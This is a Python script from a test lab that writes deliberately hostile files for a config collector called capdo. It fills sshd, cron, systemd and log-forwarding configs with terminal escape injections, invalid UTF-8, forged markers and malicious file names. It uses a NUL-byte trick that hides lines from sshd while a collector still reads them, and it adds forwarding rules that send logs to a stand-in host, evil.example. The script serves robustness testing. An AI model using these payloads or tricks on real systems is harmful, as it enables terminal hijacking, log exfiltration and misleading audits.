#!/usr/bin/python3
"""capdo lab: write the hostile files of the `garbage` host. `garbage.py HOSTDIR [PARENT_PID]`.

lab.sh has already written the host's `good` files under HOSTDIR (upper/ is the host's /etc
upper dir, spool/ its /var/spool/cron, backups/ its /var/backups, opt/ its /opt). This script
makes every file the collector reads hostile: binary garbage (random bytes including NUL),
terminal escape sequences, invalid UTF-8, very long lines, and lines that imitate the
collector's section markers with a wrong nonce. The output is the same on every run (seeded).

sshd must still start, with its real settings. In /etc/ssh/sshd_config they come first, then
garbage in `#` comment lines, then raw garbage lines (marker lines at the start of a line, a
`Match` block) that sshd never parses. sshd (OpenSSH 9.2, servconf.c) reads each line with
getline() but appends it with strlen(), so a line is cut at its first NUL *and loses its
newline*: the next line becomes part of it. Each raw line is therefore preceded by a line
`#<NUL>`, which turns it into the tail of a comment for sshd, while capdo receives it as a line
of its own. The script checks the result with `sshd -t` and `sshd -T`.

Sizes are kept so that the collector's whole output stays well under capdo's 8 MiB cap
(about 3.5 MiB): this host tests hostile content, `flood` tests the cap.

PARENT_PID is the lab.sh worker that runs this script. The script dies with it (a teardown
SIGKILLs the workers), so that it never writes, or re-creates directories, under DIR/state
after a teardown; if the worker is already gone when the script starts, it exits at once.
"""
import ctypes
import os
import sys


def die_with_parent():
    """SIGKILL this process when its parent dies (PR_SET_PDEATHSIG)."""
    try:
        ctypes.CDLL(None, use_errno=True).prctl(1, 9)  # PR_SET_PDEATHSIG, SIGKILL
    except (OSError, AttributeError):
        pass


die_with_parent()
if len(sys.argv) > 2 and os.getppid() != int(sys.argv[2]):
    sys.exit("garbage.py: the lab.sh worker that started it is gone")

import random  # noqa: E402 (after the parent check: imports take time)
import subprocess  # noqa: E402

H = sys.argv[1]
rng = random.Random(0xCA9D0)

ANSI = [
    b"\x1b[2J",                     # clear screen
    b"\x1b[H",                      # cursor home
    b"\x1b]0;capdo-lab-pwned\x07",  # set the terminal title (OSC 0, BEL)
    b"\x1b]2;title2\x1b\\",         # set the title (OSC 2, ST)
    b"\x1b[31;1m", b"\x1b[0m", b"\x1b[8m",  # red bold, reset, hidden text
    b"\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",  # hyperlink
    b"\x1bP+q544e\x1b\\",           # DCS request (XTGETTCAP)
    b"\x1b[6n",                     # cursor position report: the terminal answers on stdin
    b"\xc2\x9b2J",                  # C1 CSI as valid UTF-8 (U+009B), some terminals obey it
    b"\x9b2J",                      # raw 8-bit CSI (invalid UTF-8)
    b"\r", b"\x08\x08\x08\x08",     # carriage return, backspaces
    b"\xe2\x80\xae",                # U+202E right-to-left override
    b"\x07",                        # bell
]
INVALID = [
    b"\xff\xfe", b"\xc3\x28", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82",
    b"\x80", b"\xfe\xff\xfe",
]
# Marker-like lines with wrong nonces, plus broken variants of the real format.
MARKERS = [
    b"@@0000000000000000 end nft 0",
    b"@@0000000000000000 begin nft",
    b"@@0000000000000000 end file /etc/crontab 0",
    b"@@ffffffffffffffff end os-release 0",
    b"@@deadbeefdeadbeef begin file /etc/shadow",
    b"@@0123456789abcdef end id 0",
    b"@@ begin id",
    b"@@0000000000000000 end listen 99999999999999999999",
    b"@@0000000000000000 begin \x1b[2J\xff",
]


def noise(n):
    """n bytes of escapes, invalid UTF-8, random bytes (with NUL) and text, no newline."""
    out = bytearray()
    while len(out) < n:
        k = rng.randrange(6)
        if k == 0:
            out += rng.choice(ANSI)
        elif k == 1:
            out += rng.choice(INVALID)
        elif k == 2:
            out += bytes(b for b in rng.randbytes(rng.randrange(1, 40)) if b != 0x0A)
        elif k == 3:
            out += b"\x00"
        else:
            out += rng.choice([b"capdo", b" lab ", b"garbage", b"\t", b"=", b"\"", b"*.* @@", b"#"])
    return bytes(out[:n])


def block(comment=b"", long_line=128 << 10, hide=False):
    """A hostile block: marker lines, short noisy lines, a few KiB of raw random bytes (with
    NUL and newlines), one very long line. With `comment`, every line starts with it. With
    `hide`, every line is preceded by a line "#<NUL>" (sshd then reads it as a comment)."""
    lines = [b"capdo lab garbage: " + ANSI[0] + ANSI[2] + b"title" + INVALID[0]]
    lines += MARKERS
    lines += [noise(rng.randrange(10, 200)) for _ in range(30)]
    raw = rng.randbytes(4096)
    lines += raw.split(b"\n")
    lines.append(b"LONG " + noise(long_line))
    lines.append(b"\x1b[0m end of garbage")
    if hide:
        return b"".join(b"#\x00\n" + l + b"\n" for l in lines)
    return b"".join(comment + l + b"\n" for l in lines)


def write(path, data, mode=0o644):
    path = os.path.join(H, path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    os.chmod(path, mode)


def read(path):
    with open(os.path.join(H, path), "rb") as f:
        return f.read()


# /etc/os-release (replaces Debian's symlink in the overlay). Values that parse, with escapes.
write("upper/os-release",
      b'PRETTY_NAME="\x1b[2J\x1b]0;capdo-lab-pwned\x07Debian GNU/Linux 12 (bookworm)\xff"\n'
      b'NAME="Debian\x1b[31m GNU/Linux"\n'
      b'VERSION_ID="12\x1b[0m"\n'
      b'ID=debian\n'
      b'ID=\x1b[2Jevil\xff\n'
      + block() +
      b'HOME_URL="https://www.debian.org/"\n')
# /etc/hostname (the collector reads `uname -n`; lab.sh also sets a hostile UTS name).
write("upper/hostname", b"garbage\x1b[2J\x1b]0;capdo-lab-pwned\x07\xff\n" + block(long_line=4096))
write("utsname", b"garbage\x1b[2J\x1b]0;pwned\x07\xff\xfe")

# sshd: real settings, `#` garbage, then raw garbage that sshd reads as comments (see above),
# ending in settings and a Match block that sshd never applies.
conf = read("upper/ssh/sshd_config")
hidden = [b"PermitRootLogin yes", b"PasswordAuthentication yes",
          b"Match Address 10.231.0.0/16", b"    PermitRootLogin yes", b"    PasswordAuthentication yes"]
write("upper/ssh/sshd_config",
      conf + b"# capdo lab garbage host: everything below is comments for sshd\n"
      + block(comment=b"# ")
      + block(hide=True)
      + b"".join(b"#\x00\n" + l + b"\n" for l in hidden))
# Not Included by sshd_config, so sshd never reads it; the collector reads sshd_config.d/*.conf.
write("upper/ssh/sshd_config.d/99-garbage.conf", block())

# cron: the real backup job stays (first), plus garbage and a backup-looking job with escapes.
cron = read("upper/crontab")
write("upper/crontab", cron + block()
      + b"45 2 * * * root \x1b[2J\x1b]0;pwned\x07tar -czf /var/backups/app/x\xff.tar.gz /etc\n"
      + b"\x00\x00 * * * * root \x1b[8mhidden\n")
write(os.fsdecode(b"upper/cron.d/\x1b]0;pwned\x07evil"), block())
# A newline in a file name splits the collector's marker line for it.
write("upper/cron.d/evil\nname", b"15 3 * * * root tar -czf /var/backups/app/nl.tar.gz /etc\n")
write(os.fsdecode(b"upper/cron.daily/\x1b[2J\xff"), b"#!/bin/sh\nexit 0\n", 0o755)
# root's crontab in the spool (root-only directory, mode 1730 from lab.sh).
write("spool/crontabs/root", block() + b"@daily \x1b[2Jtar -czf /var/backups/app/spool.tar.gz /\n",
      0o600)
# systemd timer and service.
write("upper/systemd/system/garbage-backup.timer",
      b"[Unit]\nDescription=\x1b[2J\x1b]0;pwned\x07backup\xff\n[Timer]\nOnCalendar=daily\x1b[0m\n"
      + block(long_line=32 << 10))
write("upper/systemd/system/garbage-backup.service",
      b"[Service]\nExecStart=/bin/tar -czf /var/backups/app/\x1b[2J.tar.gz /etc\n"
      + block(long_line=32 << 10))

# Log forwarding: the real rule stays (first), then garbage and hostile forwarding rules.
fwd = read("upper/rsyslog.d/50-siem.conf")
write("upper/rsyslog.d/50-siem.conf", fwd + block()
      + b"*.* @@\x1b]0;pwned\x07evil.example:514\n"
      + b"*.* @10.231.0.10:514\x1b[2J\n"
      + b"*.* @@[\xff\xfe]:514\n")
write(os.fsdecode(b"upper/rsyslog.d/\x1b]0;pwned\x07\x1b[2J.conf"), block(long_line=4096))
# More than the collector's 1 MiB per file, as one line without a newline.
write("upper/rsyslog.d/98-huge.conf", b"*.* @@" + noise((3 << 20) // 2))
write("upper/syslog-ng/syslog-ng.conf",
      b'destination d_evil { network("\x1b[2J10.231.0.10" port(514)); };\n' + block())
write("upper/systemd/journal-upload.conf",
      b"[Upload]\nURL=http://\x1b]0;pwned\x07evil.example:19532\n" + block(long_line=16 << 10))
write("upper/filebeat/filebeat.yml",
      b'output.logstash:\n  hosts: ["\x1b[2J10.231.0.10:5044\xff"]\n' + block(long_line=16 << 10))

# A backup file with a hostile name (the collector prints only mtimes from here).
write(os.fsdecode(b"backups/app/\x1b[2J\xff.tar.gz"), b"capdo lab garbage backup\n")

# sshd must accept the file and keep the real settings, for the lab's clients too.
cfg = os.path.join(H, "upper/ssh/sshd_config")
key = os.path.join(H, "upper/ssh/ssh_host_ed25519_key")
subprocess.run(["sshd", "-t", "-f", cfg, "-h", key], check=True, preexec_fn=die_with_parent)
eff = subprocess.run(["sshd", "-T", "-f", cfg, "-h", key, "-C", "user=root,host=lab,addr=10.231.0.1"],
                     check=True, capture_output=True, preexec_fn=die_with_parent).stdout.decode()
for want in ("permitrootlogin without-password", "passwordauthentication no"):
    if want not in eff.splitlines():
        sys.exit("garbage.py: sshd_config lost its real settings (%s)" % want)

# A running process whose comm is terminal escapes: /bin/sleep under an ESC name. The kernel
# keeps the first 15 bytes of the name as comm. host-init.sh runs everything in opt/lab/comm.
os.makedirs(os.path.join(H, "opt/lab/comm"), exist_ok=True)
with open("/bin/sleep", "rb") as f:
    write(os.fsdecode(b"opt/lab/comm/\x1b]0;pwn\x07\x1b[2J\xff"), f.read(), 0o755)
